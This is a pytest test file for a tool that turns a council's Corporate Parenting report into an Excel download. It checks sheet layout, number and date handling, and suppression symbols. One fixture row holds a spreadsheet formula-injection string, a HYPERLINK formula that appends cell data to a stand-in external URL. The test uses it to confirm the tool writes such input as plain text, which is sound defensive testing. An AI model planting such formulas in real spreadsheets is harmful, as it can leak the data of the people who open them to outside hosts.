"""The Excel download: one sheet per published table or chart data, numbered as in the document."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from cpkit.config import Config, Period
from cpkit.present.tables import DATA_MIME
from cpkit.report.document import ANNEX_NAME, DOCUMENT_NAME, Numbered
from cpkit.report.execute import SectionRun
from cpkit.report.sections import Section
from cpkit.report.workbook import MAX_SHEET_NAME, WORKBOOK_NAME, build_workbook, cell_value, tidy

PERIOD = Period.from_year(2025)


def _executed(path: Path, payloads: list[dict]) -> Path:
    """An executed notebook as papermill leaves it: outputs carrying the published data."""
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<p>x</p>", DATA_MIME: p}) for p in payloads
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# A section"), cell]
    nbformat.write(nb, str(path))
    return path


def _table_rows(ws) -> list[tuple]:
    """The sheet's one Excel table, header row first, as values."""
    (ref,) = [t.ref for t in ws.tables.values()]
    return [tuple(c.value for c in row) for row in ws[ref]]


def _header_row(ws) -> int:
    (table,) = ws.tables.values()
    return int("".join(ch for ch in table.ref.split(":")[0] if ch.isdigit()))


@pytest.fixture
def workbook(tmp_path: Path):
    a, b = Section("01_a", "Alpha", "A."), Section("02_b", "Beta", "B.")
    runs = [
        SectionRun(
            "01_a",
            _executed(
                tmp_path / "01_a.ipynb",
                [
                    {
                        "caption": "Data for the chart: Children in care",
                        "columns": ["Month", "Children"],
                        "rows": [["Apr 2024", "450"], ["May 2024", "1,445"]],
                    },
                    {
                        "caption": "Ages",
                        "columns": ["Age", "Children", "%"],
                        "rows": [["Under 1", "<5", "c"], ["1 to 4", "12", "4.5%"], ["Total", "+7", "100%"]],
                    },
                    {
                        "caption": "Scorecard",
                        "columns": ["Indicator", "2024-25", "Change", "Statistical neighbours (2024-25)"],
                        "rows": [
                            ["Children in care", "", "", ""],
                            ["Children looked after", "457", "+1.7 points", "457 (10)"],
                            ["Health assessments", "90.5%", "-0.2 points", "67.1% (9)"],
                            ["Care leavers", "", "", ""],
                            ["In touch", "[c]", "", ""],
                            ["Pathway plans (local KPI)", "94.0% (2024-25 Q4; no full-year figure)", "", ""],
                        ],
                    },
                ],
            ),
            True,
            1.0,
        ),
        SectionRun(
            "02_b",
            _executed(
                tmp_path / "02_b.ipynb",
                [
                    {"caption": "Not shown on the page", "columns": ["X"], "rows": [["007"]]},
                    {
                        "caption": "Every action",
                        "columns": ["Ref", "Action", "Due"],
                        "rows": [
                            ["5.10", '=HYPERLINK("http://x.example/"&A1,"click")', "31 Dec 2024"],
                            ["5.1", "+44 1234", "Q3 2024/25"],
                        ],
                    },
                ],
            ),
            True,
            1.0,
        ),
    ]
    numbered = [  # as the document numbers them: the appendix table (Table 3) comes last
        Numbered("Figure", 1, "01_a", "Children in care", "Children in care"),
        Numbered("Table", 1, "01_a", "Ages", "Ages"),
        Numbered("Table", 2, "01_a", "Scorecard", "Scorecard"),
        Numbered("Table", 3, "02_b", "Every action", "Every action"),
    ]
    config = Config(la_name="Test Council", small_number_threshold=5, suppression_symbol="<5")
    path = build_workbook(
        tmp_path / WORKBOOK_NAME,
        [a, b],
        runs,
        numbered,
        config,
        PERIOD,
        contact="performance@test.example",
        published=date(2025, 7, 14),
    )
    return load_workbook(path)


def _text(ws) -> str:
    return " ".join(str(c) for row in ws.iter_rows(values_only=True) for c in row if c is not None)


def test_cover_contents_and_notes_come_first(workbook):
    assert workbook.sheetnames == [
        "Cover",
        "Contents",
        "Notes",
        "Figure 1",
        "Table 1",
        "Table 2",
        "Table 3",
        "Data 1",
    ]
    cover = _text(workbook["Cover"])
    assert workbook["Cover"]["A1"].value.startswith("Test Council: Corporate Parenting annual report 2024-25")
    for wanted in (
        "1 April 2024 to 31 March 2025",  # period
        "Source: the council's SSDA903 returns",  # source
        "performance@test.example",  # contact
        "Published: 14 July 2025",  # date
        "<5 is a count from 1 to 4",  # the small-number rule (cpkit.present.disclosure's words)
        "[c] is a figure hidden",
        "[c]: confidential",
        "[x]: not available",
    ):
        assert wanted in cover, wanted
    assert "[low]" not in cover  # no cell is ever written [low], so the key does not explain it
    contents = workbook["Contents"]
    listed = [r[0] for r in _table_rows(contents)[1:]]
    assert listed == workbook.sheetnames[3:]
    assert contents.cell(_header_row(contents) + 2, 1).hyperlink.location == "'Table 1'!A1"
    notes = _table_rows(workbook["Notes"])
    assert notes[0] == ("Note number", "Note text") and len(notes) == 4


def test_every_data_sheet_is_one_excel_table_with_no_blank_row_above(workbook):
    for name in workbook.sheetnames[3:]:
        ws = workbook[name]
        assert len(ws.tables) == 1, f"{name}: one Excel table"
        top = _header_row(ws)
        above = [ws.cell(r, 1).value for r in range(1, top)]
        assert all(v not in (None, "") for v in above), f"{name}: blank row above the table: {above}"
        assert str(ws["A1"].value).startswith(name.split(" (")[0]) or name.startswith("Data")


def test_one_value_per_cell_numbers_as_numbers(workbook):
    ages = _table_rows(workbook["Table 1"])
    # "c" is the DfE's bare symbol, written in the GSS shorthand; the council's "<5" stays as published
    assert ages == [
        ("Age", "Children", "%"),
        ("Under 1", "<5", "[c]"),
        ("1 to 4", 12, 0.045),
        ("Total", 7, 1.0),
    ]
    ws = workbook["Table 1"]
    assert ws.cell(_header_row(ws) + 2, 3).number_format == "0.0%"
    # "457 (10)": the neighbours' average and how many councils it averages, each in its own column;
    # "+1.7 points" is the number 1.7 under a heading that says percentage points; heading rows are a column
    # a local KPI's "94.0% (2024-25 Q4; no full-year figure)" is the number and, beside it, its period
    assert _table_rows(workbook["Table 2"]) == [
        (
            "Group",
            "Indicator",
            "2024-25",
            "2024-25: period",
            "Change (percentage points)",
            "Statistical neighbours (2024-25)",
            "Statistical neighbours (2024-25): councils averaged",
        ),
        ("Children in care", "Children looked after", 457, "[x]", 1.7, 457, 10),
        ("Children in care", "Health assessments", 0.905, "[x]", -0.2, 0.671, 9),
        ("Care leavers", "In touch", "[c]", "[x]", "[x]", "[x]", "[x]"),
        (
            "Care leavers",
            "Pathway plans (local KPI)",
            0.94,
            "2024-25 Q4; no full-year figure",
            "[x]",
            "[x]",
            "[x]",
        ),
    ]
    month, children = _table_rows(workbook["Figure 1"])[1]
    assert month == datetime(2024, 4, 1) and children == 450
    assert _table_rows(workbook["Data 1"])[1:] == [("007",)], "a code with a leading zero stays text"


def test_refs_and_input_text_stay_text_and_dates_are_dates(workbook):
    rows = _table_rows(workbook["Table 3"])
    assert [r[0] for r in rows[1:]] == ["5.10", "5.1"], "refs are text: 5.10 is not 5.1"
    assert rows[1][1] == '=HYPERLINK("http://x.example/"&A1,"click")', "a formula from input stays text"
    assert rows[2][1] == "+44 1234"
    ws3 = workbook["Table 3"]
    top = _header_row(ws3)
    assert ws3.cell(top + 1, 2).quotePrefix and ws3.cell(top + 2, 2).quotePrefix, "marked as text for Excel"
    assert rows[1][2] == datetime(2024, 12, 31) and rows[2][2] == "Q3 2024/25"
    ws = workbook["Table 3"]
    assert ws.cell(_header_row(ws) + 1, 3).number_format == "d mmm yyyy"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize(
    "text, value",
    [
        ("1,234", 1234),
        ("-5", -5),
        ("12.5", 12.5),
        ("45%", 0.45),
        ("<5", "<5"),
        ("c", "c"),
        ("0123", "0123"),
        ("E06000999", "E06000999"),
        ("", ""),
        ("+1.7 points", 1.7),
    ],
)
def test_cell_values(text, value):
    assert cell_value(text) == value


def test_sheet_names_are_unique_short_and_valid(tmp_path):
    long = "A caption: far [too] long/for an Excel sheet name? yes"
    runs = [
        SectionRun(
            "01_a",
            _executed(
                tmp_path / "n.ipynb", [{"caption": long, "columns": ["A"], "rows": [["1"]]} for _ in range(3)]
            ),
            True,
            1.0,
        )
    ]
    numbered = [Numbered("Table", i, "01_a", long, long) for i in (1, 2, 3)]
    names = load_workbook(
        build_workbook(tmp_path / "x.xlsx", [Section("01_a", "A", "A.")], runs, numbered, Config(), PERIOD)
    ).sheetnames
    assert len(set(names)) == len(names) == 6 and all(len(n) <= MAX_SHEET_NAME for n in names)


# --- the sample report ----------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.xdist_group("sample_report")
def test_sample_workbook_reads_the_same_as_the_document(sample_report):
    """Every table sheet holds the table of that number in the Board's report ("Table 3") or the technical
    annex ("Table A3"): same caption, and the same published cells once written one value per cell (the
    rules of ``tidy`` are tested on hand-made tables above)."""
    wb = load_workbook(sample_report / WORKBOOK_NAME)
    doc_tables = {}
    tables = [
        table
        for name in (DOCUMENT_NAME, ANNEX_NAME)
        for table in BeautifulSoup(
            (sample_report / name).read_text(encoding="utf-8"), "html.parser"
        ).find_all("table")
    ]
    for table in tables:
        if table.find_parent(class_="cp-authored") is not None:
            continue  # the Board's own words (year ahead, priorities) are not data: not in the download
        number, _, caption = table.caption.get_text().partition(": ")
        doc_tables[number] = (
            caption,
            [[c.get_text() for c in tr.find_all(["th", "td"])] for tr in table.find_all("tr")],
        )
    assert wb.sheetnames[:3] == ["Cover", "Contents", "Notes"]
    listed = [r[0] for r in _table_rows(wb["Contents"])[1:]]
    assert listed == wb.sheetnames[3:]
    symbols = {"<5", "[c]", "[x]"}
    compared = 0
    for name in wb.sheetnames[3:]:
        if not name.startswith("Table"):
            continue
        ws = wb[name]
        caption, doc_rows = doc_tables[name]
        assert str(ws["A1"].value).startswith(f"{name}: {caption}")
        expected = tidy(doc_rows[0], doc_rows[1:], symbols).frame
        rows = _table_rows(ws)
        assert list(rows[0]) == list(expected.columns), f"{name}: headings differ from the document"
        got = [list(r) for r in rows[1:]]
        assert got == expected.to_numpy().tolist(), f"{name}: cells differ from the document's {name}"
        compared += 1
    tables_in_document = {n for n in doc_tables if n.startswith("Table")}
    assert {n for n in wb.sheetnames if n.startswith("Table")} == tables_in_document, (
        "every table of the document has its sheet"
    )
    assert compared == len(tables_in_document)
